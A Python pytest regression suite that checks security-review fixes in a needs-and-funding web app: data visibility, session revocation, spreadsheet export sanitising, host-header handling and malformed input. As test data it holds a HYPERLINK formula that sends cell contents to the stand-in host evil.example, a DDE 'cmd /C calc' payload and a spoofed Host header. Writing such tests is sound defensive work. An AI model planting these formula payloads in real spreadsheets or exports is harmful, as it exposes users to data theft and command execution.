"""Regression tests for the findings of the security and robustness review, one test (or small family)
per finding. Each drives the real app in the test's rolled-back transaction."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from pydantic import BaseModel, ValidationError
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from pux.accounts import service as accounts
from pux.accounts.permissions import EXPERT, Actor, Grant
from pux.accounts.schemas import InvitationCreate
from pux.assistance.schemas import ActivityUpdate
from pux.config import Settings
from pux.matching import service as matching
from pux.needs import service as needs
from pux.needs.models import Need
from pux.needs.schemas import NeedUpdate
from pux.programmes.models import Programme
from pux.programmes.schemas import ProgrammeUpdate
from tests.web.accessibility import accessibility_problems
from tests.web_helpers import bearer, csrf_token, sign_in
from tests.world import PASSWORD, World, facilitator_round, published_grant_programme

HUGE_ID = "1180591620717411303424"  # 2**70: no database integer holds it
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


# ---------------------------------------------------------------- helpers


def _need_count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Need)) or 0


def _funding_programme(session: Session, world: World) -> int:
    """A published grant programme that fits every Kenyan health need of the world (any status)."""
    return published_grant_programme(
        session,
        world,
        title="Cancer care grants (security review)",
        budget=Decimal("9000000"),
        need_keys=("published_ken", "partners_ken", "private_ken", "draft_ken", "submitted_ken"),
    )


def _round(session: Session, world: World) -> tuple[int, int]:
    programme_id = _funding_programme(session, world)
    record = facilitator_round(session, world, programme_id, title="Security review round", cap_share=1.0)
    return record.id, programme_id


def _page_form(client: TestClient, path: str, form_path: str, data: dict[str, Any]) -> Any:
    token = csrf_token(client, form_path)
    return client.post(path, data={**data, "csrf_token": token}, follow_redirects=False)


def _import(client: TestClient, token: str, content: bytes, name: str = "needs.csv") -> Any:
    media = "text/csv" if name.endswith(".csv") else "application/octet-stream"
    return client.post("/api/v1/needs/import", headers=bearer(token), files={"file": (name, content, media)})


# ---------------------------------------------------------------- private data


def test_a_round_proposes_only_published_needs_partners_may_see(
    client: TestClient, session: Session, world: World
) -> None:
    round_id, _programme = _round(session, world)
    proposals = matching.proposals_for(session, actor=world.actors["facilitator"], round_id=round_id)
    proposed = {p.need_id for p in proposals}
    assert world.needs["published_ken"] in proposed  # the programme does fit: the round is not empty
    for proposal in proposals:
        assert proposal.need.status == "published" and proposal.need.visibility in {"public", "partners"}
    hidden = {world.needs[key] for key in ("private_ken", "draft_ken", "submitted_ken")}
    assert not proposed & hidden
    # Nor does the donor meet them on the round's page or through the API.
    donor = client.get(f"/api/v1/matching/rounds/{round_id}", headers=bearer(world.tokens["partner_a"]))
    assert donor.status_code == 200
    assert not {p["need_id"] for p in donor.json()["proposals"]} & hidden
    sign_in(client, world.emails["partner_a"])
    for page in (client.get(f"/matching/rounds/{round_id}"), client.get("/matching")):
        assert page.status_code == 200
        for key in ("private_ken", "draft_ken", "submitted_ken"):
            assert f'href="/needs/{world.needs[key]}"' not in page.text
        assert "Published private" not in page.text


def test_the_activity_of_an_accepted_match_is_no_more_visible_than_its_need(
    client: TestClient, session: Session, world: World
) -> None:
    round_id, _programme = _round(session, world)
    proposals = matching.proposals_for(session, actor=world.actors["facilitator"], round_id=round_id)
    partners_only = next(p for p in proposals if p.need_id == world.needs["partners_ken"])
    matching.decide(session, actor=world.actors["partner_a"], proposal_id=partners_only.id, accept=True)
    matching.decide(session, actor=world.actors["focal_ken"], proposal_id=partners_only.id, accept=True)
    assert partners_only.status == "accepted" and partners_only.activity_id is not None
    activity = f"/api/v1/activities/{partners_only.activity_id}"
    assert client.get(activity).status_code == 404  # the public may not see the need: nor its activity
    listed = client.get("/api/v1/activities", params={"page_size": 200}).json()["items"]
    assert partners_only.activity_id not in {item["id"] for item in listed}
    assert client.get(activity, headers=bearer(world.tokens["expert"])).status_code == 200
    assert client.get(f"/activities/{partners_only.activity_id}").status_code == 404
    # A need made private while its proposal waits: the activity is private too (never "partners").
    later = next(p for p in proposals if p.need_id == world.needs["published_ken"])
    matching.decide(session, actor=world.actors["partner_a"], proposal_id=later.id, accept=True)
    need = needs.get_need(session, actor=world.actors["admin"], need_id=world.needs["published_ken"])
    need.visibility = "private"
    session.flush()
    matching.decide(session, actor=world.actors["focal_ken"], proposal_id=later.id, accept=True)
    assert later.activity_id is not None
    private_activity = f"/api/v1/activities/{later.activity_id}"
    for outsider in ("expert", "officer_b", "focal_uga"):
        assert client.get(private_activity, headers=bearer(world.tokens[outsider])).status_code == 404
    assert client.get(private_activity).status_code == 404
    for insider in ("partner_a", "focal_ken", "facilitator"):
        assert client.get(private_activity, headers=bearer(world.tokens[insider])).status_code == 200


def test_need_history_shows_no_email_address_to_anyone(client: TestClient, world: World) -> None:
    need_id = world.needs["published_ken"]
    for headers in ({}, bearer(world.tokens["partner_a"])):
        history = client.get(f"/api/v1/needs/{need_id}/history", headers=headers)
        assert history.status_code == 200 and history.json()
        for event in history.json():
            assert "@" not in event["actor"], event
        assert "@test.pux.invalid" not in history.text
    assert "@test.pux.invalid" not in client.get(f"/needs/{need_id}").text


def test_a_round_is_404_to_an_expert_with_no_proposal_in_it(
    client: TestClient, session: Session, world: World
) -> None:
    round_id, _programme = _round(session, world)
    api = client.get(f"/api/v1/matching/rounds/{round_id}", headers=bearer(world.tokens["expert"]))
    missing = client.get(f"/api/v1/matching/rounds/{2**31 - 1}", headers=bearer(world.tokens["expert"]))
    assert api.status_code == missing.status_code == 404
    assert api.json()["detail"] == missing.json()["detail"]
    sign_in(client, world.emails["expert"])
    assert client.get(f"/matching/rounds/{round_id}").status_code == 404
    assert f"/matching/rounds/{round_id}" not in client.get("/matching").text


def test_overlaps_count_only_activities_the_reader_may_see(session: Session, world: World) -> None:
    from pux.assistance import service as assistance
    from tests.world import activity_data

    # Two providers in Uganda, same area and technique, one of them private to its provider.
    for key, organisation, visibility in (
        ("officer_b", "agency_b", "private"),
        ("partner_a", "donor_a", "public"),
    ):
        assistance.record_activity(
            session,
            actor=world.actors[key],
            data=activity_data(
                world.organisations[organisation],
                title=f"Overlap check {key}",
                recipient_country_iso3="UGA",
                technique_code="isotope_hydrology",
                thematic_area_code="water",
                status="implementation",
                visibility=visibility,
            ),
        )

    def uganda(actor: Actor) -> list[tuple[str, str, str | None, int]]:
        found = matching.provider_overlaps(session, actor=actor)
        return [row for row in found if row[0] == "UGA" and row[2] == "isotope_hydrology"]

    assert uganda(world.actors["facilitator"])  # two providers: an overlap for those who see both
    assert uganda(world.actors["public"]) == []  # the public sees one provider only: no overlap
    assert uganda(world.actors["partner_a"]) == []


def test_import_answers_alike_for_a_hidden_record_and_a_missing_one(
    client: TestClient, session: Session, world: World
) -> None:
    header = "id,country_iso3,title,thematic_area_code,currency,visibility,version\n"
    hidden = world.needs["private_ken"]
    answers = []
    for record_id in (hidden, 2**31 - 1):
        row = f"{record_id},KEN,Overwritten by Uganda,health,USD,public,1\n"
        answers.append(_import(client, world.tokens["focal_uga"], (header + row).encode()))
    assert answers[0].status_code == answers[1].status_code == 422
    assert answers[0].json() == answers[1].json()
    need = needs.get_need(session, actor=world.actors["admin"], need_id=hidden)
    assert need.title != "Overwritten by Uganda"


# ---------------------------------------------------------------- injection


def _hostile_need(client: TestClient, world: World, title: str = HYPERLINK) -> int:
    created = client.post(
        "/api/v1/needs",
        headers=bearer(world.tokens["counterpart_ken"]),
        json={"country_iso3": "KEN", "title": title, "thematic_area_code": "health", "visibility": "public"},
    )
    assert created.status_code == 201, created.text
    return int(created.json()["id"])


def test_xlsx_export_never_writes_a_formula(client: TestClient, world: World) -> None:
    need_id = _hostile_need(client, world)
    exported = client.get(
        "/api/v1/needs/export", params={"format": "xlsx"}, headers=bearer(world.tokens["counterpart_ken"])
    )
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    id_at, title_at = header.index("id"), header.index("title")
    row = next(r for r in rows[1:] if str(r[id_at].value) == str(need_id))
    assert row[title_at].data_type == "s"
    for cells in rows:
        assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formula_leads(
    client: TestClient, session: Session, world: World, lead: str
) -> None:
    need_id = _hostile_need(client, world, "Title replaced below")
    need = needs.get_need(session, actor=world.actors["admin"], need_id=need_id)
    # Stored as is (the forms strip leading blanks, older or imported data may still hold them).
    need.title = f"{lead}1+2 cmd|' /C calc'!A0"
    need.description = f"{lead}SUM(A1:A9)"
    session.flush()
    exported = client.get(
        "/api/v1/needs/export", params={"format": "csv"}, headers=bearer(world.tokens["counterpart_ken"])
    )
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["id"] == str(need_id))
    assert row["title"] == "'" + need.title, repr(row["title"])
    if "description" in row:
        assert row["description"] == "'" + need.description
    for other in rows:
        for value in other.values():
            assert not value or value[0] not in "=+-@\t\r" or value.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_file_imports_back_to_the_original_title(
    client: TestClient, session: Session, world: World, file_format: str
) -> None:
    token = world.tokens["counterpart_ken"]
    need_id = _hostile_need(client, world)
    exported = client.get(
        "/api/v1/needs/export", params={"format": file_format, "country": "KEN"}, headers=bearer(token)
    )
    answer = _import(client, token, exported.content, f"needs.{file_format}")
    assert answer.status_code == 200, answer.text[:1000]
    assert client.get(f"/api/v1/needs/{need_id}", headers=bearer(token)).json()["title"] == HYPERLINK
    need = needs.get_need(session, actor=world.actors["admin"], need_id=need_id)
    session.refresh(need)
    assert need.title == HYPERLINK


@pytest.mark.parametrize("wildcard", ["_", "%", "3%", "_3"])
def test_the_sdg_filter_is_not_a_wildcard(client: TestClient, world: World, wildcard: str) -> None:
    api = client.get("/api/v1/needs", params={"sdg": wildcard, "page_size": 200})
    assert api.status_code == 422
    assert [p["field"] for p in api.json()["problems"]] == ["sdg"]
    page = client.get("/needs", params={"sdg": wildcard})
    assert page.status_code == 422
    assert f'href="/needs/{world.needs["published_ken"]}"' not in page.text


def test_the_sdg_filter_reads_sdg3_like_3(client: TestClient, world: World) -> None:
    def ids(value: str) -> set[int]:
        answer = client.get("/api/v1/needs", params={"sdg": value, "page_size": 200})
        assert answer.status_code == 200, answer.text
        return {item["id"] for item in answer.json()["items"]}

    assert world.needs["published_ken"] in ids("3")
    assert ids("SDG3") == ids("3") == ids("sdg 3")
    assert world.needs["published_ken"] not in ids("6")


# ---------------------------------------------------------------- sessions


def test_a_session_cookie_copied_before_sign_out_signs_no_one_in(client: TestClient, world: World) -> None:
    sign_in(client, world.emails["focal_ken"])
    assert client.get("/me", follow_redirects=False).status_code == 200
    copied = dict(client.cookies.items())
    assert copied
    token = csrf_token(client, "/me")
    assert client.post("/sign-out", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    client.cookies.clear()
    for name, value in copied.items():
        client.cookies.set(name, value)
    me = client.get("/me", follow_redirects=False)
    assert me.status_code == 303 and me.headers["location"].startswith("/sign-in")
    assert "Sign in" in client.get("/").text


def test_revoking_a_role_ends_that_person_s_session(
    client: TestClient, session: Session, world: World
) -> None:
    user = accounts.create_user(
        session,
        actor=world.actors["admin"],
        email="revoked.expert@test.pux.invalid",
        full_name="Revoked Expert",
        password=PASSWORD,
        grants=[Grant(EXPERT)],
    )
    role_id = user.roles[0].id
    expert = TestClient(client.app)
    sign_in(expert, "revoked.expert@test.pux.invalid")
    assert expert.get("/me", follow_redirects=False).status_code == 200
    sign_in(client, world.emails["admin"])
    revoked = _page_form(client, f"/roles/{role_id}/revoke", "/people", {})
    assert revoked.status_code == 303
    me = expert.get("/me", follow_redirects=False)
    assert me.status_code == 303 and me.headers["location"].startswith("/sign-in")


def test_each_installation_gets_its_own_owner_only_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PUX_SECRET_KEY", raising=False)
    monkeypatch.delenv("PUX_MODE", raising=False)
    first_file, second_file = tmp_path / "one" / "secret_key", tmp_path / "two" / "secret_key"
    first = Settings(secret_key_file=first_file).session_secret()
    second = Settings(secret_key_file=second_file).session_secret()
    assert len(first) >= 32 and first != second
    assert stat.S_IMODE(first_file.stat().st_mode) == 0o600
    assert Settings(secret_key_file=first_file).session_secret() == first  # kept across restarts
    with pytest.raises(ValidationError):
        Settings(mode="production")
    with pytest.raises(ValidationError):
        Settings(mode="production", secret_key="short")
    assert Settings(mode="production", secret_key="x" * 40).session_secret() == "x" * 40


def test_invitation_links_use_the_configured_address(client: TestClient, world: World) -> None:
    sign_in(client, world.emails["admin"])
    token = csrf_token(client, "/people")
    page = client.post(
        "/people/invitations",
        data={"email": "hosted@test.pux.invalid", "role": "expert", "csrf_token": token},
        headers={"Host": "evil.example"},
    )
    assert page.status_code == 200, page.text[:500]
    assert "evil.example" not in page.text
    base = Settings().base_url.rstrip("/")
    assert re.search(re.escape(base) + r"/invitations/[\w-]+", page.text)


def test_accepting_an_invitation_for_an_existing_account_is_a_clear_422(
    client: TestClient, session: Session, world: World
) -> None:
    _invitation, token = accounts.invite(
        session,
        actor=world.actors["admin"],
        data=InvitationCreate(email="twice@test.pux.invalid", role="expert"),
    )
    accounts.create_user(
        session,
        actor=world.actors["admin"],
        email="twice@test.pux.invalid",
        full_name="Already Here",
        password=PASSWORD,
        grants=[],
    )
    answer = _page_form(
        client,
        f"/invitations/{token}",
        f"/invitations/{token}",
        {"full_name": "Second Account", "password": "a long enough password"},
    )
    assert answer.status_code == 422
    assert "exists already" in answer.text
    assert accessibility_problems(answer.text) == []  # the address is no box of this form: no link to it


# ---------------------------------------------------------------- bad input


BIG_ID_API_PATHS = (
    "/api/v1/needs/{id}",
    "/api/v1/needs/{id}/history",
    "/api/v1/needs/{id}/recommendations",
    "/api/v1/programmes/{id}",
    "/api/v1/programmes/{id}/recommendations",
    "/api/v1/activities/{id}",
    "/api/v1/matching/rounds/{id}",
    "/api/v1/matching/rounds/{id}/proposals",
)
BIG_ID_PAGES = (
    "/needs/{id}",
    "/needs/{id}/edit",
    "/programmes/{id}",
    "/programmes/{id}/edit",
    "/activities/{id}",
    "/activities/{id}/edit",
    "/matching/rounds/{id}",
)


@pytest.mark.parametrize("record_id", [HUGE_ID, str(2**62), str(2**31)])
@pytest.mark.parametrize("path", BIG_ID_API_PATHS + BIG_ID_PAGES)
def test_ids_beyond_what_the_database_holds_are_404(
    client: TestClient, world: World, path: str, record_id: str
) -> None:
    """Beyond 64 bits, and beyond the 32-bit INTEGER keys of PostgreSQL (a 500 there before)."""
    headers = bearer(world.tokens["admin"]) if path.startswith("/api/") else {}
    if not path.startswith("/api/"):
        sign_in(client, world.emails["admin"])
    answer = client.get(path.format(id=record_id), headers=headers, follow_redirects=False)
    assert answer.status_code == 404, (path, answer.status_code)


def test_writes_to_ids_beyond_64_bits_are_404(client: TestClient, world: World) -> None:
    headers = bearer(world.tokens["admin"])
    decided = client.post(
        f"/api/v1/proposals/{HUGE_ID}/decision", headers=headers, json={"decision": "accept", "side": "donor"}
    )
    assert decided.status_code == 404
    for path in ("/api/v1/needs/{id}", "/api/v1/programmes/{id}", "/api/v1/activities/{id}"):
        assert client.put(path.format(id=HUGE_ID), headers=headers, json={}).status_code == 404
    sign_in(client, world.emails["admin"])
    token = csrf_token(client, "/me")
    page = client.post(
        f"/proposals/{HUGE_ID}/decision",
        data={"decision": "accept", "side": "donor", "csrf_token": token},
        follow_redirects=False,
    )
    assert page.status_code == 404


@pytest.mark.parametrize("path", ["/needs", "/programmes", "/activities"])
def test_a_huge_page_number_is_a_4xx_not_a_crash(client: TestClient, path: str) -> None:
    page = client.get(path, params={"page": 10**18})
    assert 400 <= page.status_code < 500, page.status_code
    api = client.get(f"/api/v1{path}", params={"page": 10**18})
    assert 400 <= api.status_code < 500, api.status_code
    assert "page" in api.text


@pytest.mark.parametrize("path", ["/needs", "/programmes", "/activities"])
def test_a_page_number_beyond_64_bits_is_a_4xx(client: TestClient, path: str) -> None:
    assert 400 <= client.get(path, params={"page": 2**70}).status_code < 500
    assert 400 <= client.get(f"/api/v1{path}", params={"page": 2**70}).status_code < 500


def test_non_numeric_versions_and_places_are_422(client: TestClient, session: Session, world: World) -> None:
    draft, submitted = world.needs["draft_ken"], world.needs["submitted_ken"]
    before = needs.get_need(session, actor=world.actors["admin"], need_id=draft).title
    sign_in(client, world.emails["focal_ken"])
    edit = _page_form(
        client,
        f"/needs/{draft}/edit",
        f"/needs/{draft}/edit",
        {
            "title": "Edited with a garbled version",
            "thematic_area_code": "health",
            "currency": "USD",
            "visibility": "public",
            "version": "1e9",
        },
    )
    assert edit.status_code == 422
    transition = _page_form(
        client,
        f"/needs/{submitted}/transitions",
        f"/needs/{submitted}",
        {"target": "endorsed", "version": "two"},
    )
    assert transition.status_code == 422
    ranking = _page_form(
        client,
        "/countries/KEN/ranking",
        "/countries/KEN/ranking",
        {f"rank-{world.needs['published_ken']}": "first"},
    )
    assert ranking.status_code == 422
    session.expire_all()
    assert needs.get_need(session, actor=world.actors["admin"], need_id=draft).title == before
    assert needs.get_need(session, actor=world.actors["admin"], need_id=submitted).status == "submitted"


def test_a_priority_configuration_that_is_not_json_is_a_422_page(client: TestClient, world: World) -> None:
    sign_in(client, world.emails["facilitator"])
    answer = _page_form(client, "/priority/config", "/priority", {"configuration": "{not json"})
    assert answer.status_code == 422
    assert "JSON" in answer.text


def test_an_unknown_priority_area_is_404(client: TestClient) -> None:
    assert client.get("/priority", params={"area": "nope"}).status_code == 404
    assert client.get("/api/v1/priority", params={"area": "nope"}).status_code == 404


def test_bad_text_and_references_in_a_need_are_refused(
    client: TestClient, session: Session, world: World
) -> None:
    headers = {**bearer(world.tokens["counterpart_ken"]), "Content-Type": "application/json"}
    base = {"country_iso3": "KEN", "thematic_area_code": "health", "visibility": "public"}
    before = _need_count(session)

    def post(body: dict[str, Any] | bytes) -> Any:
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        return client.post("/api/v1/needs", headers=headers, content=content)

    missing_organisation = post({**base, "title": "Need of a ghost", "organisation_id": 2**31 - 1})
    assert missing_organisation.status_code == 422
    assert "organisation_id" in missing_organisation.text
    beyond = post({**base, "title": "Need of a ghost", "organisation_id": 2**62})
    assert beyond.status_code == 422 and "organisation_id" in beyond.text
    surrogate = b'{"country_iso3": "KEN", "thematic_area_code": "health", "title": "\\ud800abc need title"}'
    assert post(surrogate).status_code == 422
    assert post({**base, "title": "\u200b\u202e"}).status_code == 422
    assert post({**base, "title": "Cobalt\x00 source"}).status_code == 422
    assert _need_count(session) == before
    stored = post({**base, "title": "Reversed \u202etext\u202c in a title"})
    assert stored.status_code == 201
    assert "\u202e" not in stored.json()["title"] and "Reversed" in stored.json()["title"]


IMPORT_HEADER = "country_iso3,title,thematic_area_code,currency,visibility\n"


@pytest.mark.parametrize(
    ("name", "content", "row", "field"),
    [
        ("huge field", IMPORT_HEADER + "KEN," + "x" * 10_000_000 + ",health,USD,public\n", 2, "file"),
        ("id beyond 64 bits", "id," + IMPORT_HEADER + f"{HUGE_ID},KEN,A need,health,USD,public\n", 2, "id"),
        ("duplicate columns", "title," + IMPORT_HEADER + "A,KEN,B,health,USD,public\n", 1, "title"),
        ("NUL byte", IMPORT_HEADER + "KEN,Nul\x00 need,health,USD,public\n", 2, "file"),
    ],
)
def test_hostile_csv_imports_are_refused_naming_row_or_field(
    client: TestClient, session: Session, world: World, name: str, content: str, row: int, field: str
) -> None:
    before = _need_count(session)
    answer = _import(client, world.tokens["counterpart_ken"], content.encode())
    assert answer.status_code == 422, (name, answer.status_code)
    assert len(answer.content) < 20_000  # the field is never echoed back whole
    problems = answer.json()["problems"]
    assert any(p["row"] == row and p["field"] == field for p in problems), problems
    assert _need_count(session) == before


def test_a_csv_with_cr_only_line_endings_imports_correctly(
    client: TestClient, session: Session, world: World
) -> None:
    content = (
        IMPORT_HEADER
        + "KEN,CR-only first need,health,USD,public\rKEN,CR-only second need,health,USD,public\r"
    )
    before = _need_count(session)
    answer = _import(client, world.tokens["counterpart_ken"], content.replace("\n", "\r").encode())
    assert answer.status_code == 200, answer.text[:500]
    titles = {n.title for n in session.scalars(select(Need).where(Need.title.like("CR-only%")))}
    assert titles == {"CR-only first need", "CR-only second need"}
    assert _need_count(session) == before + 2


def test_an_xlsx_with_a_formula_cell_is_refused(client: TestClient, session: Session, world: World) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["country_iso3", "title", "thematic_area_code", "currency", "visibility"])
    sheet.append(["KEN", "=1+1", "health", "USD", "public"])
    buffer = io.BytesIO()
    book.save(buffer)
    before = _need_count(session)
    answer = _import(client, world.tokens["counterpart_ken"], buffer.getvalue(), "needs.xlsx")
    assert answer.status_code == 422
    assert any(p["row"] == 2 and p["field"] == "title" for p in answer.json()["problems"]), answer.text
    assert _need_count(session) == before


def test_a_stale_version_in_an_import_names_the_row(
    client: TestClient, session: Session, world: World
) -> None:
    draft = needs.get_need(session, actor=world.actors["admin"], need_id=world.needs["draft_ken"])
    content = (
        "id,country_iso3,title,thematic_area_code,currency,visibility,version\n"
        f"{draft.id},KEN,Stale import,health,USD,public,{draft.version + 5}\n"
    )
    answer = _import(client, world.tokens["counterpart_ken"], content.encode())
    assert answer.status_code in {409, 422}
    assert any(p["row"] == 2 and p["field"] == "version" for p in answer.json()["problems"]), answer.text
    session.expire_all()
    assert needs.get_need(session, actor=world.actors["admin"], need_id=draft.id).title != "Stale import"


def test_a_body_over_the_limit_is_413_and_not_echoed(
    client: TestClient, session: Session, world: World
) -> None:
    assert Settings().max_body_bytes == 2 * 1024 * 1024
    marker = "OVERSIZED-" * (3 * 1024 * 1024 // 10)
    before = _need_count(session)
    answer = client.post(
        "/api/v1/needs",
        headers=bearer(world.tokens["counterpart_ken"]),
        json={"country_iso3": "KEN", "thematic_area_code": "health", "title": "t", "description": marker},
    )
    assert answer.status_code == 413
    assert "OVERSIZED-OVERSIZED" not in answer.text and len(answer.content) < 5_000
    assert _need_count(session) == before


def test_a_422_never_echoes_a_large_input(client: TestClient, world: World) -> None:
    long_title = "LONGTITLE" * 100_000  # 900 kB: under the body limit, over the field's
    answer = client.post(
        "/api/v1/needs",
        headers=bearer(world.tokens["counterpart_ken"]),
        json={"country_iso3": "KEN", "thematic_area_code": "health", "title": long_title},
    )
    assert answer.status_code == 422
    assert len(answer.content) < 20_000 and long_title[:2000] not in answer.text
    search = client.get("/api/v1/needs", params={"q": "Q" * 50_000})
    assert search.status_code == 422 and len(search.content) < 5_000
    page = client.get("/needs", params={"q": "Q" * 50_000})
    assert page.status_code == 422 and "Q" * 1000 not in page.text


# ---------------------------------------------------------------- API contract


def _get_then_put(
    client: TestClient, token: str, path: str, edit: type[BaseModel]
) -> tuple[dict[str, Any], dict[str, Any]]:
    """What GET returned, PUT back: whole, it is refused naming the fields an edit does not take (the
    record's number, status...: the API never drops a field without a word); its fields that an edit
    takes are taken."""
    headers = bearer(token)
    loaded = client.get(path, headers=headers)
    assert loaded.status_code == 200, loaded.text
    whole = client.put(path, headers=headers, json=loaded.json())
    assert whole.status_code == 422, whole.text[:1000]
    read_only = set(loaded.json()) - set(edit.model_fields)
    assert {problem["field"] for problem in whole.json()["problems"]} == read_only
    editable = {name: value for name, value in loaded.json().items() if name in edit.model_fields}
    put = client.put(path, headers=headers, json=editable)
    assert put.status_code == 200, put.text[:1000]
    return loaded.json(), client.get(path, headers=headers).json()


def test_a_put_of_what_get_returned_changes_nothing(
    client: TestClient, session: Session, world: World
) -> None:
    need = needs.get_need(session, actor=world.actors["admin"], need_id=world.needs["draft_ken"])
    need.beneficiary_description = "Patients of the western region"
    need.gender_dimension = "Half the patients are women"
    need.cofinancing_note = "The ministry covers the bunker"
    programme = session.get(Programme, world.programmes["draft_a"])
    assert programme is not None
    programme.description = "Grants for radiotherapy equipment"
    session.flush()
    ignored = {"version", "updated_at"}
    for token, path, edit in (
        (world.tokens["counterpart_ken"], f"/api/v1/needs/{world.needs['draft_ken']}", NeedUpdate),
        (world.tokens["partner_a"], f"/api/v1/programmes/{world.programmes['draft_a']}", ProgrammeUpdate),
        (world.tokens["partner_a"], f"/api/v1/activities/{world.activities['public_a']}", ActivityUpdate),
    ):
        before, after = _get_then_put(client, token, path, edit)
        assert {k: v for k, v in after.items() if k not in ignored} == {
            k: v for k, v in before.items() if k not in ignored
        }, path
    kept = client.get(
        f"/api/v1/needs/{world.needs['draft_ken']}", headers=bearer(world.tokens["counterpart_ken"])
    ).json()
    assert kept["beneficiary_description"] == "Patients of the western region"
    assert kept["gender_dimension"] == "Half the patients are women"
    assert kept["cofinancing_note"] == "The ministry covers the bunker"


RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)$")


def test_updated_at_carries_a_time_zone_offset(client: TestClient, world: World) -> None:
    headers = bearer(world.tokens["admin"])
    stamps = [
        client.get(f"/api/v1/needs/{world.needs['published_ken']}", headers=headers).json()["updated_at"],
        client.get(f"/api/v1/programmes/{world.programmes['draft_a']}", headers=headers).json()["updated_at"],
        client.get(f"/api/v1/activities/{world.activities['public_a']}", headers=headers).json()[
            "updated_at"
        ],
        client.get("/api/v1/needs", headers=headers).json()["items"][0]["updated_at"],
    ]
    stamps += [
        event["occurred_at"]
        for event in client.get(
            f"/api/v1/needs/{world.needs['published_ken']}/history", headers=headers
        ).json()
    ]
    for stamp in stamps:
        assert RFC3339.match(stamp), stamp
        assert datetime.fromisoformat(stamp.replace("Z", "+00:00")).utcoffset() is not None


def test_need_page_warnings_count_only_what_the_reader_may_see(
    client: TestClient, session: Session, world: World
) -> None:
    from pux.assistance import service as assistance
    from tests.world import activity_data

    need_id = world.needs["published_ken"]
    for actor, organisation, linked in (("officer_b", "agency_b", True), ("admin", "hospital_ken", False)):
        assistance.record_activity(
            session,
            actor=world.actors[actor],
            data=activity_data(
                world.organisations[organisation],
                title=f"Confidential radiotherapy support ({organisation})",
                technique_code="radiotherapy",
                status="implementation",
                visibility="private",
                need_id=need_id if linked else None,
            ),
        )
    round_id, _programme = _round(session, world)
    assert matching.proposals_for(session, actor=world.actors["facilitator"], round_id=round_id)
    warnings = ("Already supported by", "other provider(s) run activities", "open proposal(s)")
    sign_in(client, world.emails["facilitator"])
    insider = client.get(f"/needs/{need_id}").text
    assert all(warning in insider for warning in warnings)
    for outsider in ("public", "expert"):
        outside = TestClient(client.app)
        if outsider != "public":
            sign_in(outside, world.emails[outsider])
        page = outside.get(f"/needs/{need_id}")
        assert page.status_code == 200
        for warning in warnings:
            assert warning not in page.text, (outsider, warning)


@pytest.mark.parametrize("path", ["/organisations/{id}/brief", "/organisations/{id}/brief.pdf"])
def test_an_organisation_brief_of_an_id_beyond_64_bits_is_not_found(client: TestClient, path: str) -> None:
    # Read as a plain int, the id overflowed the database driver: a 500 with a traceback in the log.
    assert client.get(path.format(id=10**20)).status_code in (404, 422)
